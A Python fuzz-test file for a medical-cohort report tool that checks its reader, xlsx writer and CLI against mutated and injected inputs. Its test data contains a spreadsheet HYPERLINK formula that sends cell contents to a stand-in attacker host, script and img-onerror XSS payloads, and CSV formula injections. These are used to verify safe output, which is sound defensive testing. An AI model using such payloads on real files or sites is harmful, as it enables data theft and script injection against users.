"""The fuzz layer of the default test run (issue 17): a few hundred mutated cohorts
through the reader and validator in-process, a few through the xlsx cohort writer,
and a couple through the whole ``aftercar report --suppress-below`` CLI.

Seeded (``@seed``) and without shrinking or a database, so a run is repeatable and
its time bounded. ``benchmarks/fuzz_long.py --cases 10000`` runs the long version.
"""

from __future__ import annotations

from fuzzkit import Case, cases, check_read, check_report, check_xlsx_writer
from hypothesis import HealthCheck, Phase, given, seed, settings

FUZZ = settings(
    deadline=None,
    database=None,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=list(HealthCheck),
)


@seed(20261202)
@settings(FUZZ, max_examples=120)  # 10,000 cases: benchmarks/fuzz_long.py
@given(case=cases)
def test_reader_and_validator_survive_mutated_cohorts(tmp_path_factory, case):
    fails = check_read(case, tmp_path_factory.mktemp("read"))
    assert fails == [], (case, fails)


@seed(17)
@settings(FUZZ, max_examples=12)
@given(case=cases)
def test_xlsx_cohort_writer_never_writes_a_formula(tmp_path_factory, case):
    fails = check_xlsx_writer(case, tmp_path_factory.mktemp("xlsx"))
    assert fails == [], (case, fails)


INJECTED = Case(
    "csv",
    n=8,
    seed=1,
    mutations=(
        ("cell", "lines", 3, 2, '=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("cell", "lines", 5, 2, "<script>alert(1)</script>"),
        ("cell", "patients", 2, 2, '<img src=x onerror="alert(1)">'),
        ("cell", "patients", 4, 5, "@SUM(A1:A9)"),
    ),
)


def test_report_cli_on_injected_text_is_safe_and_suppressed(tmp_path):
    assert check_report(INJECTED, tmp_path, k=5) == []


def test_report_cli_on_a_damaged_workbook_ends_cleanly(tmp_path):
    damaged = Case("xlsx", 6, 2, (("sheet", "lines", "formula", 1, 1), ("file", "lines", "binary")))
    assert check_report(damaged, tmp_path, k=5) == []


def test_the_checks_can_fail(tmp_path):
    """The output checks find what they look for."""
    from fuzzkit import _check_outputs

    out = tmp_path / "out"
    (out / "tables").mkdir(parents=True)
    (out / "report.html").write_text("<p>ok</p><img src=x onerror=alert(1)>")
    (out / "tables" / "t.csv").write_text("a,b\n=1+1,-2.5\n")
    (out / "results.json").write_text('{"n": 3, "patients": 12}')
    (out / "warnings.txt").write_text("SYN-0000001 has no lines")
    fails = _check_outputs(out, 5, {"SYN-0000001"})
    assert len(fails) == 5, fails
